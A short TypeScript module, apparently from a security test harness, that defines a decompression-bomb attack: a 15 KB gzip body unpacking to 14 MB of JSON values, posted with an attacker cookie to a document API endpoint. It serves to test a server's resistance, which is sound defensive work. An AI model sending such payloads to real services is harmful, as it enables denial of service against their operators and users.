import { gzipSync } from 'node:zlib';
import type { Attack } from './attack';

/** 14 MB of values in 15 KB. */
export const packedValues: Attack = {
  name: 'A body of 15 KB that unpacks to 14 MB of values',
  lanes: 4,
  prepare({ attacker }) {
    const body = gzipSync(`[${'0,'.repeat(7_000_000)}0]`);
    const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip', cookie: attacker.cookie };
    return Promise.resolve(async () => {
      const response = await fetch(`${attacker.address}/api/documents`, { method: 'POST', body, headers });
      await response.arrayBuffer();
    });
  },
};
